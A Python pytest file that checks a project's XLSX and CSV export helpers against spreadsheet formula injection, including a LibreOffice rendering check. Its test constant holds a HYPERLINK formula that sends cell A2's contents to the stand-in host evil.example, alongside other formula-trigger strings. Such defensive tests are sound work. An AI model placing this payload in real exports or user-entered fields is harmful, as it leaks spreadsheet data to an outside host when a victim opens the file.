"""Exports write user text as text: a spreadsheet never runs a formula from a title, name or note (OWASP)."""

from __future__ import annotations

import csv
import glob
import io
import shutil
import subprocess

import pytest
from openpyxl import load_workbook

from core.platform.spreadsheet import XlsxSheet, csv_bytes, csv_text

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")'
TRIGGERS = [HYPERLINK, "+1+2", "-3+4", "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1+1"]


def _read(data: bytes) -> list:
    return [list(row) for row in load_workbook(io.BytesIO(data)).active.iter_rows()]


def test_formula_like_text_is_a_text_cell_with_the_quote_prefix_and_reads_back_unchanged():
    sheet = XlsxSheet("导出", ["标题"])
    for value in [*TRIGGERS, "#N/A", "普通标题"]:
        sheet.append([value])
    cells = [row[0] for row in _read(sheet.save())[1:]]
    assert [c.value for c in cells] == [*TRIGGERS, "#N/A", "普通标题"]
    assert {c.data_type for c in cells} == {"s"}  # openpyxl alone would write "f" (formula) and "e" (#N/A)
    assert [c.quotePrefix for c in cells] == [True] * len(TRIGGERS) + [False, False]


def test_characters_a_worksheet_refuses_are_dropped_and_other_types_kept():
    from datetime import date

    sheet = XlsxSheet("导出\x07", ["标题", "日期", "人数"])
    sheet.append(["物业\x00维修\x07问题\x1f", date(2026, 9, 28), 3])
    row = _read(sheet.save())[1]
    assert [c.value for c in row][0] == "物业维修问题"
    assert row[1].value.date() == date(2026, 9, 28) and row[2].value == 3


def test_csv_fields_get_a_leading_apostrophe_and_control_characters_are_dropped():
    assert [csv_text(v) for v in ("=1+1", "+86", "-5", "@x", "\tx", "\rx")] == [
        "'=1+1",
        "'+86",
        "'-5",
        "'@x",
        "'\tx",
        "'\rx",
    ]
    assert csv_text("正常\x00文字") == "正常文字" and csv_text(None) == "" and csv_text(12) == "12"
    data = csv_bytes(["标题"], [[HYPERLINK], ['他说"好"']])
    assert data.startswith("\ufeff".encode())  # Excel needs the BOM to read UTF-8 Chinese
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["标题"], ["'" + HYPERLINK], ['他说"好"']]


@pytest.mark.slow
@pytest.mark.skipif(
    shutil.which("soffice") is None or not glob.glob("/usr/lib/libreoffice/program/libsclo.so"),
    reason="LibreOffice Calc is not installed",
)
def test_libreoffice_shows_the_text_not_the_formulas_result(tmp_path):
    sheet = XlsxSheet("导出", ["标题"])
    for value in (HYPERLINK, "=1+1", "@SUM(1,2)"):
        sheet.append([value])
    (tmp_path / "cases.xlsx").write_bytes(sheet.save())
    subprocess.run(
        [
            "soffice",
            "--headless",
            "--norestore",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",  # comma, double quote, UTF-8
            "--outdir",
            str(tmp_path),
            str(tmp_path / "cases.xlsx"),
        ],
        check=True,
        capture_output=True,
        timeout=120,
        env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
    )
    shown = list(csv.reader(io.StringIO((tmp_path / "cases.csv").read_text("utf-8"))))
    # evaluated, the cells would read 点此查看, 2 and 3
    assert shown == [["标题"], [HYPERLINK], ["=1+1"], ["@SUM(1,2)"]]
